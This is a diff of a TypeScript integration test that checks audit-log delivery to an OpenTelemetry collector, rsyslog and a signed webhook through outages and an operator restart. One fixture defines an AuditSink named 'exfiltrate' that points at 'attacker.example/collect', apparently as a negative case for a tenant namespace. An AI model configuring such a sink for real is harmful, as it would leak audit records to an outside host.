@@ -1,8 +1,8 @@
 import { type ChildProcess, execFileSync, spawn } from 'node:child_process';
 import { randomBytes } from 'node:crypto';
-import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
+import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
 import { createServer, type Server } from 'node:http';
-import type { AddressInfo } from 'node:net';
+import { type AddressInfo, connect } from 'node:net';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { startAuditSealer } from '@codevector/console-api/audit/audit-sealer';
@@ -15,11 +15,15 @@ import { loadOperatorConfig } from '@codevector/operator/config';
 import { freePort } from '@codevector/testbed/free-port';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { z } from 'zod';
+import { recordEnterpriseFigures } from './enterprise-figures.ts';
 
 // AuditSinks against a real OpenTelemetry Collector (built with the collector builder from the
-// Go module proxy: OTLP/HTTP receiver, file exporter) and a signed webhook: every sealed audit
-// row arrives, in order, with its chain sequence and hash, and a sink stopped for a while under
-// traffic gets everything it missed when it comes back: no gap.
+// Go module proxy: OTLP/HTTP receiver, file exporter), a real syslog receiver (Debian's rsyslog:
+// imtcp with RFC 6587 octet counting, RFC 5424 parsing, omfile) and a signed webhook: every
+// sealed audit row arrives, in order, with its chain sequence and hash. The collector and rsyslog
+// are stopped for a minute under traffic and started again; later the operator itself is stopped
+// while rows keep coming and a new one is started. Each time delivery resumes right after the
+// last acknowledged sequence: no gap, and a resent row carries the same sequence and hash.
 const outageSeconds = Number(process.env['CODEVECTOR_SINK_OUTAGE_SECONDS'] ?? 60);
 const repoRoot = path.resolve(import.meta.dirname, '../../..');
 const log = createLogger({ name: 'audit-sink-test', level: 'silent' });
@@ -31,6 +35,10 @@ let stopSealer: () => Promise<void>;
 let collector: ChildProcess | undefined;
 let collectorBin: string;
 let otlpPort: number;
+let syslogPort: number;
+let syslogDir: string;
+let rsyslog: ChildProcess | undefined;
+let operatorConfig: ReturnType<typeof loadOperatorConfig>;
 let webhook: Server;
 const webhookRows: { seq: number; hash: string }[] = [];
 let badSignatures = 0;
@@ -103,6 +111,66 @@ async function collectorRows(files: string[]): Promise<{ seq: number; hash: stri
   return rows;
 }
 
+/** rsyslogd in the foreground with only what the test needs: a TCP listener and one output file. */
+async function startRsyslog(output: string): Promise<ChildProcess> {
+  // Beside, not inside, the operator's source folder: that one holds only manifests.
+  const work = path.join(syslogDir, `rsyslog-${path.basename(output)}`);
+  await mkdir(work, { recursive: true });
+  const config = path.join(work, 'rsyslog.conf');
+  await writeFile(
+    config,
+    [
+      `global(workDirectory="${work}" maxMessageSize="64k")`,
+      'module(load="imtcp")',
+      `input(type="imtcp" port="${syslogPort}" address="127.0.0.1")`,
+      // What rsyslog's RFC 5424 parser made of each message: a 3164 parse would have no
+      // structured data (`-`), so a line here proves the framing and the format.
+      'template(name="audit" type="string" string="%protocol-version% %app-name% %msgid% %structured-data%\\n")',
+      `action(type="omfile" file="${output}" template="audit")`,
+      '',
+    ].join('\n'),
+  );
+  const child = spawn('rsyslogd', ['-n', '-f', config, '-i', path.join(work, 'pid')], { stdio: ['ignore', 'ignore', 'pipe'] });
+  let stderr = '';
+  child.stderr?.on('data', (chunk: Buffer) => {
+    stderr += chunk.toString();
+  });
+  for (let i = 0; i < 200; i++) {
+    const up = await new Promise<boolean>((resolve) => {
+      const socket = connect({ host: '127.0.0.1', port: syslogPort }, () => {
+        socket.end();
+        resolve(true);
+      });
+      socket.once('error', () => resolve(false));
+    });
+    if (up) return child;
+    if (child.exitCode !== null) throw new Error(`rsyslogd exited: ${stderr.slice(-2000)}`);
+    await new Promise((resolve) => setTimeout(resolve, 100));
+  }
+  throw new Error(`rsyslogd did not start: ${stderr.slice(-2000)}`);
+}
+
+/** The (seq, hash) of every message rsyslog parsed as RFC 5424 with the audit structured data. */
+async function syslogRows(files: string[]): Promise<{ seq: number; hash: string }[]> {
+  const rows: { seq: number; hash: string }[] = [];
+  for (const file of files) {
+    const text = await readFile(file, 'utf8').catch(() => '');
+    for (const line of text.split('\n').filter(Boolean)) {
+      const parsed = /^1 codevector \S+ \[audit@32473 seq="(\d+)" hash="([0-9a-f]+)"/.exec(line);
+      if (!parsed) throw new Error(`rsyslog did not parse an RFC 5424 audit message: ${line.slice(0, 300)}`);
+      rows.push({ seq: Number(parsed[1]), hash: parsed[2]! });
+    }
+  }
+  return rows;
+}
+
+async function stop(child: ChildProcess | undefined): Promise<void> {
+  if (!child || child.exitCode !== null) return;
+  const exited = new Promise((resolve) => child.once('exit', resolve));
+  child.kill('SIGTERM');
+  await exited;
+}
+
 const chain = () =>
   db.any(
     sql.type(
@@ -122,11 +190,27 @@ function check(received: readonly { seq: number; hash: string }[], expected: rea
   return { gaps, wrong, duplicates: received.length - got.size };
 }
 
+/**
+ * `check` of what a file-writing receiver holds, once its writes settled: an acknowledgement means
+ * the collector or rsyslog took the rows, and their file output follows a moment later (the
+ * collector's exporter flushes every 100 ms, rsyslog writes from its queue).
+ */
+async function settled(read: () => Promise<{ seq: number; hash: string }[]>, expected: readonly { seq: number; hash: string }[]) {
+  let result = check(await read(), expected);
+  for (const until = performance.now() + 15_000; result.gaps > 0 && performance.now() < until; ) {
+    await new Promise((resolve) => setTimeout(resolve, 200));
+    result = check(await read(), expected);
+  }
+  return result;
+}
+
 beforeAll(async () => {
   collectorBin = execFileSync('bash', [path.join(repoRoot, 'scripts/otel-collector.sh')], { encoding: 'utf8' }).trim();
   db = await createPool(process.env['DATABASE_URL']!);
   dir = await mkdtemp(path.join(tmpdir(), 'cv-sinks-'));
+  syslogDir = await mkdtemp(path.join(tmpdir(), 'cv-syslog-'));
   otlpPort = await freePort();
+  syslogPort = await freePort();
   webhook = createServer((req, res) => {
     const chunks: Buffer[] = [];
     req.on('data', (c: Buffer) => chunks.push(c));
@@ -164,19 +248,25 @@ spec: { type: webhook, webhook: { url: "${webhookUrl}", hmacSecretRef: { name: s
 ---
 apiVersion: codevector.dev/v1alpha1
 kind: AuditSink
+metadata: { name: rsyslog, namespace: codevector }
+spec: { type: syslog, syslog: { address: "127.0.0.1:${syslogPort}", appName: codevector }, batchSize: 50 }
+---
+apiVersion: codevector.dev/v1alpha1
+kind: AuditSink
 metadata: { name: exfiltrate, namespace: team-a }
 spec: { type: webhook, webhook: { url: "https://attacker.example/collect", hmacSecretRef: { name: x, key: y } } }
 `,
   );
   collector = await startCollector(path.join(dir, 'out-1.json'));
+  rsyslog = await startRsyslog(path.join(syslogDir, 'syslog-1.log'));
   stopSealer = startAuditSealer(db, log, 100);
-  const config = loadOperatorConfig({
+  operatorConfig = loadOperatorConfig({
     DATABASE_URL: process.env['DATABASE_URL'],
     CODEVECTOR_ENCRYPTION_KEY: randomBytes(32).toString('base64'),
     CODEVECTOR_OPERATOR_NAMESPACE: 'codevector',
     CODEVECTOR_AUDIT_DELIVERY_MS: '200',
   });
-  operator = buildOperator({ config, db, log, source: { type: 'dir', dir } });
+  operator = buildOperator({ config: operatorConfig, db, log, source: { type: 'dir', dir } });
   await operator.start();
 }, 600_000);
 
@@ -184,9 +274,11 @@ afterAll(async () => {
   await operator?.stop();
   await stopSealer?.();
   collector?.kill('SIGKILL');
+  rsyslog?.kill('SIGKILL');
   await new Promise<void>((resolve) => (webhook ? webhook.close(() => resolve()) : resolve()));
   await db?.end();
   if (dir) await rm(dir, { recursive: true, force: true });
+  if (syslogDir) await rm(syslogDir, { recursive: true, force: true });
 });
 
 describe('AuditSink', () => {
@@ -199,65 +291,162 @@ describe('AuditSink', () => {
   });
 
   it(
-    `streams every row, in order, through a ${outageSeconds} s outage of the collector under traffic, with no gap`,
+    `streams every row, in order, through a ${outageSeconds} s outage of the collector and rsyslog under traffic, with no gap`,
     async () => {
-      let writing = true;
-      let written = 0;
-      const traffic = (async () => {
-        while (writing) {
-          await db.transaction((tx) =>
-            writeAuditEntry(tx, {
-              action: 'gateway.rate_limit_exceeded',
-              targetType: 'api_key',
-              targetName: `key-${written % 7}`,
-              actor: `dev${written % 5}@example.com`,
-              actorSource: 'gateway',
-              detail: { n: written },
-            }),
-          );
-          written++;
-          await new Promise((resolve) => setTimeout(resolve, 25));
-        }
-      })();
+      const traffic = startTraffic();
       const outputs = [path.join(dir, 'out-1.json')];
+      const syslogOutputs = [path.join(syslogDir, 'syslog-1.log')];
       // Delivering before the outage.
       await expect.poll(async () => (await collectorRows(outputs)).length, { timeout: 30_000 }).toBeGreaterThan(20);
+      await expect.poll(async () => (await syslogRows(syslogOutputs)).length, { timeout: 30_000 }).toBeGreaterThan(20);
 
-      collector?.kill('SIGTERM');
-      await new Promise((resolve) => collector?.once('exit', resolve));
+      await Promise.all([stop(collector), stop(rsyslog)]);
       const down = performance.now();
+      const writtenBefore = traffic.written();
       await new Promise((resolve) => setTimeout(resolve, outageSeconds * 1000));
-      const stalled = await cursorOf('otel');
-      expect((await chain()).at(-1)!.seq).toBeGreaterThan(stalled ?? 0);
+      const stalled = { otel: (await cursorOf('otel')) ?? 0, rsyslog: (await cursorOf('rsyslog')) ?? 0 };
+      // Rows kept coming and were sealed while both receivers were away.
+      expect(traffic.written() - writtenBefore).toBeGreaterThan(outageSeconds * 10);
+      expect((await chain()).at(-1)!.seq).toBeGreaterThan(Math.max(stalled.otel, stalled.rsyslog));
       outputs.push(path.join(dir, 'out-2.json'));
-      collector = await startCollector(outputs[1]!);
+      syslogOutputs.push(path.join(syslogDir, 'syslog-2.log'));
+      [collector, rsyslog] = await Promise.all([startCollector(outputs[1]!), startRsyslog(syslogOutputs[1]!)]);
       const outage = (performance.now() - down) / 1000;
 
       await new Promise((resolve) => setTimeout(resolve, 2000));
-      writing = false;
-      await traffic;
-      const head = async () => (await chain()).at(-1)?.seq ?? 0;
-      await expect
-        .poll(async () => (await cursorOf('otel')) === (await head()) && (await cursorOf('siem')) === (await head()), { timeout: 60_000 })
-        .toBe(true);
+      await traffic.stop();
+      await caughtUp();
 
       const expected = await chain();
-      const otel = check(await collectorRows(outputs), expected);
+      const otel = await settled(() => collectorRows(outputs), expected);
+      const syslog = await settled(() => syslogRows(syslogOutputs), expected);
       const siem = check(webhookRows, expected);
-      console.log(`sink_gap_rows=${otel.gaps + siem.gaps} sink_outage_s=${outage.toFixed(1)} rows=${expected.length} written=${written}`);
+      // Resumed from the last acknowledged sequence: what came back first is the next row.
+      const resumedAt = {
+        otel: Math.min(...(await collectorRows([outputs[1]!])).map((r) => r.seq)),
+        rsyslog: Math.min(...(await syslogRows([syslogOutputs[1]!])).map((r) => r.seq)),
+      };
+      figures.sink_gap_rows = otel.gaps + syslog.gaps + siem.gaps;
+      figures.sink_wrong_rows = otel.wrong + syslog.wrong + siem.wrong;
+      figures.sink_duplicate_rows = otel.duplicates + syslog.duplicates + siem.duplicates;
+      figures.sink_outage_s = Math.round(outage * 10) / 10;
+      figures.sink_rows = expected.length;
+      figures.sink_resume_offset_rows = Math.abs(resumedAt.otel - (stalled.otel + 1)) + Math.abs(resumedAt.rsyslog - (stalled.rsyslog + 1));
       expect(otel).toMatchObject({ gaps: 0, wrong: 0 });
+      expect(syslog).toMatchObject({ gaps: 0, wrong: 0 });
       expect(siem).toEqual({ gaps: 0, wrong: 0, duplicates: 0 });
+      expect(resumedAt).toEqual({ otel: stalled.otel + 1, rsyslog: stalled.rsyslog + 1 });
       expect(badSignatures).toBe(0);
       // In order: each receiver saw sequence numbers rising, except resends after the outage.
       expect(webhookRows.map((r) => r.seq)).toEqual([...webhookRows.map((r) => r.seq)].sort((a, b) => a - b));
+      collectorFiles = outputs;
+      syslogFiles = syslogOutputs;
+      recordEnterpriseFigures('sink', figures);
     },
     240_000 + outageSeconds * 1000,
   );
 
   it('reports progress and the failure of the outage in the sink’s state', async () => {
-    const state = await db.one(sql.type(z.object({ failures: z.number(), last_error: z.string().nullable() }))`
-      select failures::int, last_error from audit_sink_cursors c join audit_sinks s on s.uid = c.sink_uid where s.name = 'otel'`);
-    expect(state.failures).toBeGreaterThan(0);
-    expect(state.last_error).toMatch(/ECONNREFUSED|failed/);
+    const state = await db.any(sql.type(z.object({ name: z.string(), failures: z.number(), last_error: z.string().nullable() }))`
+      select s.name, failures::int, last_error from audit_sink_cursors c join audit_sinks s on s.uid = c.sink_uid
+      where s.name in ('otel', 'rsyslog') order by s.name`);
+    expect(state).toHaveLength(2);
+    for (const sink of state) {
+      expect(sink.failures).toBeGreaterThan(0);
+      expect(sink.last_error).toMatch(/ECONNREFUSED|failed/);
+    }
   });
+
+  it('resumes after the operator restarts, from each sink’s last acknowledged sequence, with no gap', async () => {
+    const traffic = startTraffic();
+    await new Promise((resolve) => setTimeout(resolve, 2000));
+    await operator.stop();
+    const acknowledged = { siem: (await cursorOf('siem')) ?? 0 };
+    const webhookBefore = webhookRows.length;
+    // Rows written and sealed while no operator runs.
+    await new Promise((resolve) => setTimeout(resolve, 5000));
+    expect((await chain()).at(-1)!.seq).toBeGreaterThan(acknowledged.siem);
+    operator = buildOperator({ config: operatorConfig, db, log, source: { type: 'dir', dir } });
+    await operator.start();
+    await new Promise((resolve) => setTimeout(resolve, 2000));
+    await traffic.stop();
+    await caughtUp();
+
+    const expected = await chain();
+    const gaps = [
+      await settled(() => collectorRows(collectorFiles), expected),
+      await settled(() => syslogRows(syslogFiles), expected),
+      check(webhookRows, expected),
+    ];
+    figures.sink_restart_gap_rows = gaps.reduce((n, g) => n + g.gaps, 0);
+    figures.sink_restart_wrong_rows = gaps.reduce((n, g) => n + g.wrong, 0);
+    for (const g of gaps) expect(g).toMatchObject({ gaps: 0, wrong: 0 });
+    // The new operator starts right after the webhook's cursor: nothing skipped, nothing before
+    // it resent.
+    expect(webhookRows[webhookBefore]?.seq).toBe(acknowledged.siem + 1);
+    figures.sink_restart_duplicate_rows = gaps.reduce((n, g) => n + g.duplicates, 0);
+    // One change, one row: the new operator's resync of the four sinks wrote no audit rows.
+    const sinkRows = await db.anyFirst(sql.type(z.object({ action: z.string() }))`
+      select action from audit_log where target_type = 'audit_sink' order by id`);
+    expect(sinkRows.filter((a) => a === 'audit_sink.created')).toHaveLength(3);
+    recordEnterpriseFigures('sink', figures);
+  }, 120_000);
 });
+
+const figures = {
+  sink_gap_rows: -1,
+  sink_wrong_rows: -1,
+  sink_duplicate_rows: -1,
+  sink_outage_s: 0,
+  sink_rows: 0,
+  sink_resume_offset_rows: -1,
+  sink_restart_gap_rows: -1,
+  sink_restart_wrong_rows: -1,
+  sink_restart_duplicate_rows: -1,
+};
+let collectorFiles: string[] = [];
+let syslogFiles: string[] = [];
+
+/** Gateway-like audit traffic (a rejection every ~25 ms) until stopped. */
+function startTraffic() {
+  let writing = true;
+  let written = 0;
+  const done = (async () => {
+    while (writing) {
+      await db.transaction((tx) =>
+        writeAuditEntry(tx, {
+          action: 'gateway.rate_limit_exceeded',
+          targetType: 'api_key',
+          targetName: `key-${written % 7}`,
+          actor: `dev${written % 5}@example.com`,
+          actorSource: 'gateway',
+          detail: { n: written },
+        }),
+      );
+      written++;
+      await new Promise((resolve) => setTimeout(resolve, 25));
+    }
+  })();
+  return {
+    written: () => written,
+    async stop() {
+      writing = false;
+      await done;
+    },
+  };
+}
+
+/** Every sink's cursor at the head of the sealed chain. */
+async function caughtUp(): Promise<void> {
+  const head = async () => (await chain()).at(-1)?.seq ?? 0;
+  await expect
+    .poll(
+      async () => {
+        const h = await head();
+        for (const name of ['otel', 'siem', 'rsyslog']) if ((await cursorOf(name)) !== h) return false;
+        return true;
+      },
+      { timeout: 60_000 },
+    )
+    .toBe(true);
+}
